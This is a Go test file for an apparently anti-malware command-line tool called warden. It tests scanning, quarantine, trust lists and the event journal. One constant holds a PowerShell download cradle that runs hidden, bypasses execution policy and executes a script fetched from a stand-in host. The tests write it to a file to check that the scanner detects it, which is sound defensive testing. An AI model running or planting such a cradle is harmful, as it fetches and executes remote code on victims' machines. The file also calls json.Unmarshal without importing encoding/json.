// File: cmd/cmd_test.go
package cmd

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/xkilldash9x/warden/internal/config"
	"github.com/xkilldash9x/warden/internal/journal"
	"github.com/xkilldash9x/warden/internal/quarantine"
	"github.com/xkilldash9x/warden/internal/trust"
)

const cradle = `powershell -nop -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.test/a.ps1')"`

// executeCommand runs a fresh command tree and returns everything written to stdout and stderr.
func executeCommand(t *testing.T, args ...string) (string, error) {
	t.Helper()
	root := NewRootCommand()
	buf := new(bytes.Buffer)
	root.SetOut(buf)
	root.SetErr(buf)
	root.SetArgs(args)
	err := root.ExecuteContext(context.Background())
	return buf.String(), err
}

// createTempConfig writes a config file whose data directory is private to the test.
func createTempConfig(t *testing.T) (cfgPath, dataDir string) {
	t.Helper()
	dir := t.TempDir()
	dataDir = filepath.Join(dir, "data")
	content := fmt.Sprintf(`
logger:
  level: error
storage:
  data_dir: '%s'
scanner:
  workers: 2
`, dataDir)
	cfgPath = filepath.Join(dir, "warden.yaml")
	require.NoError(t, os.WriteFile(cfgPath, []byte(content), 0o600))
	return cfgPath, dataDir
}

func TestRootCmd_Version(t *testing.T) {
	out, err := executeCommand(t, "--version")
	require.NoError(t, err)
	assert.Contains(t, out, "warden version "+Version)

	out, err = executeCommand(t, "version")
	require.NoError(t, err)
	assert.Contains(t, out, "warden version "+Version)
}

func TestRootCmd_ArgumentValidation(t *testing.T) {
	tests := []struct {
		args []string
		want string
	}{
		{[]string{"scan"}, "requires at least 1 arg(s)"},
		{[]string{"quarantine", "restore"}, "accepts 1 arg(s)"},
		{[]string{"trust", "check", "a", "b"}, "accepts 1 arg(s)"},
		{[]string{"protect", "extra"}, "unknown command"},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			_, err := executeCommand(t, tt.args...)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tt.want)
		})
	}
}

func TestRootCmd_InvalidConfig(t *testing.T) {
	cfgPath := filepath.Join(t.TempDir(), "warden.yaml")
	require.NoError(t, os.WriteFile(cfgPath, []byte("scanner:\n  workers: 0\n"), 0o600))

	_, err := executeCommand(t, "--config", cfgPath, "trust", "list")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "scanner.workers")
}

func TestRootCmd_EnvironmentOverride(t *testing.T) {
	cfgPath, _ := createTempConfig(t)
	t.Setenv("WARDEN_SCANNER_WORKERS", "-1")

	_, err := executeCommand(t, "--config", cfgPath, "trust", "list")
	require.Error(t, err, "environment values override the config file")
}

func TestGetConfigFromContext(t *testing.T) {
	_, err := getConfigFromContext(context.Background())
	assert.Error(t, err)

	cfg := config.NewDefaultConfig()
	got, err := getConfigFromContext(context.WithValue(context.Background(), configKey, config.Interface(cfg)))
	require.NoError(t, err)
	assert.Same(t, cfg, got)
}

func TestScanCmd(t *testing.T) {
	cfgPath, _ := createTempConfig(t)
	target := t.TempDir()
	bad := filepath.Join(target, "loader.ps1")
	clean := filepath.Join(target, "notes.txt")
	require.NoError(t, os.WriteFile(bad, []byte(cradle), 0o644))
	require.NoError(t, os.WriteFile(clean, []byte("meeting at noon"), 0o644))

	t.Run("Table", func(t *testing.T) {
		out, err := executeCommand(t, "--config", cfgPath, "scan", "--names", target)
		var threats *ThreatsFoundError
		require.True(t, errors.As(err, &threats), "got %v", err)
		assert.Equal(t, 1, threats.Count)
		assert.Contains(t, out, "HEUR:Script.DynamicExec.a")
		assert.Contains(t, out, "clean")
	})

	t.Run("JSON", func(t *testing.T) {
		out, err := executeCommand(t, "--config", cfgPath, "scan", "--json", "-j", "1", bad, clean)
		require.Error(t, err)

		var rows []scanRow
		require.NoError(t, json.Unmarshal([]byte(out), &rows))
		require.Len(t, rows, 2)
		assert.Equal(t, bad, rows[0].Path)
		assert.Equal(t, "code90", rows[0].Result)
		assert.Equal(t, "script", rows[0].Kind)
		assert.Nil(t, rows[0].CloudStatus)
		assert.Equal(t, clean, rows[1].Path)
		assert.Empty(t, rows[1].Result)
	})

	t.Run("Clean", func(t *testing.T) {
		out, err := executeCommand(t, "--config", cfgPath, "scan", clean)
		require.NoError(t, err)
		assert.Contains(t, out, "notes.txt")
	})

	t.Run("MissingPath", func(t *testing.T) {
		_, err := executeCommand(t, "--config", cfgPath, "scan", filepath.Join(target, "missing"))
		require.Error(t, err)
		assert.Contains(t, err.Error(), "cannot scan")
	})

	t.Run("CloudWithoutEndpoint", func(t *testing.T) {
		_, err := executeCommand(t, "--config", cfgPath, "scan", "--cloud", clean)
		assert.Error(t, err)
	})
}

func TestQuarantineCmd(t *testing.T) {
	cfgPath, _ := createTempConfig(t)
	victim := filepath.Join(t.TempDir(), "payload.exe")
	require.NoError(t, os.WriteFile(victim, []byte("MZ payload"), 0o644))

	out, err := executeCommand(t, "--config", cfgPath, "quarantine", "list")
	require.NoError(t, err)
	assert.Contains(t, out, "Quarantine is empty.")

	out, err = executeCommand(t, "--config", cfgPath, "quarantine", "add", "--threat", "HEUR:Trojan.Generic.a", victim)
	require.NoError(t, err)
	assert.Contains(t, out, "Quarantined")
	assert.NoFileExists(t, victim)

	out, err = executeCommand(t, "--config", cfgPath, "quarantine", "list", "--json")
	require.NoError(t, err)
	var items []quarantine.Item
	require.NoError(t, json.Unmarshal([]byte(out), &items))
	require.Len(t, items, 1)
	assert.Equal(t, "HEUR:Trojan.Generic.a", items[0].VirusName)

	out, err = executeCommand(t, "--config", cfgPath, "quarantine", "list")
	require.NoError(t, err)
	assert.Contains(t, out, items[0].ID)

	out, err = executeCommand(t, "--config", cfgPath, "quarantine", "restore", items[0].ID)
	require.NoError(t, err)
	assert.Contains(t, out, "Restored")
	content, err := os.ReadFile(victim)
	require.NoError(t, err)
	assert.Equal(t, "MZ payload", string(content))

	_, err = executeCommand(t, "--config", cfgPath, "quarantine", "delete", items[0].ID)
	assert.ErrorIs(t, err, quarantine.ErrNotFound)

	_, err = executeCommand(t, "--config", cfgPath, "quarantine", "add", victim)
	require.NoError(t, err)
	out, err = executeCommand(t, "--config", cfgPath, "quarantine", "clear")
	require.NoError(t, err)
	assert.Contains(t, out, "Deleted 1 item(s)")
}

func TestTrustCmd(t *testing.T) {
	cfgPath, _ := createTempConfig(t)
	folder := t.TempDir()
	inside := filepath.Join(folder, "tool.exe")
	require.NoError(t, os.WriteFile(inside, []byte("MZ"), 0o644))

	_, err := executeCommand(t, "--config", cfgPath, "trust", "add-folder", "--note", "build output", folder)
	require.NoError(t, err)

	out, err := executeCommand(t, "--config", cfgPath, "trust", "check", inside)
	require.NoError(t, err)
	assert.Contains(t, out, "is trusted")

	out, err = executeCommand(t, "--config", cfgPath, "trust", "list", "--json")
	require.NoError(t, err)
	var items []trust.Item
	require.NoError(t, json.Unmarshal([]byte(out), &items))
	require.Len(t, items, 1)
	assert.Equal(t, trust.Folder, items[0].Type)
	assert.Equal(t, "build output", items[0].Note)

	_, err = executeCommand(t, "--config", cfgPath, "trust", "add-file", folder)
	assert.Error(t, err, "a folder is not a file")

	_, err = executeCommand(t, "--config", cfgPath, "trust", "remove", folder)
	require.NoError(t, err)
	out, err = executeCommand(t, "--config", cfgPath, "trust", "check", inside)
	require.NoError(t, err)
	assert.Contains(t, out, "is not trusted")

	_, err = executeCommand(t, "--config", cfgPath, "trust", "add-file", inside)
	require.NoError(t, err)
	_, err = executeCommand(t, "--config", cfgPath, "trust", "clear")
	require.NoError(t, err)
	out, err = executeCommand(t, "--config", cfgPath, "trust", "list")
	require.NoError(t, err)
	assert.Contains(t, out, "Trust list is empty.")
}

func TestJournalCmd(t *testing.T) {
	cfgPath, dataDir := createTempConfig(t)

	out, err := executeCommand(t, "--config", cfgPath, "journal")
	require.NoError(t, err)
	assert.Contains(t, out, "Journal is empty.")

	jcfg := config.NewDefaultConfig().Journal()
	jcfg.Path = filepath.Join(dataDir, "journal.jsonl")
	j, err := journal.Open(jcfg, nil)
	require.NoError(t, err)
	require.NoError(t, j.Append(journal.Record{Source: "Process", Path: "/tmp/a.exe", Threat: "code90", Action: journal.ActionQuarantine, Succeeded: true}))
	require.NoError(t, j.Append(journal.Record{Source: "Reg", Path: `HKLM\Run\x`, Action: journal.ActionRevert, Detail: "access denied"}))
	require.NoError(t, j.Close())

	out, err = executeCommand(t, "--config", cfgPath, "journal")
	require.NoError(t, err)
	assert.Contains(t, out, "/tmp/a.exe")
	assert.Contains(t, out, "[code90]")
	assert.Contains(t, out, "FAILED")
	assert.Contains(t, out, "(access denied)")

	out, err = executeCommand(t, "--config", cfgPath, "journal", "--json", "-n", "1")
	require.NoError(t, err)
	var records []journal.Record
	require.NoError(t, json.Unmarshal([]byte(out), &records))
	require.Len(t, records, 1)
	assert.Equal(t, journal.ActionRevert, records[0].Action)
}
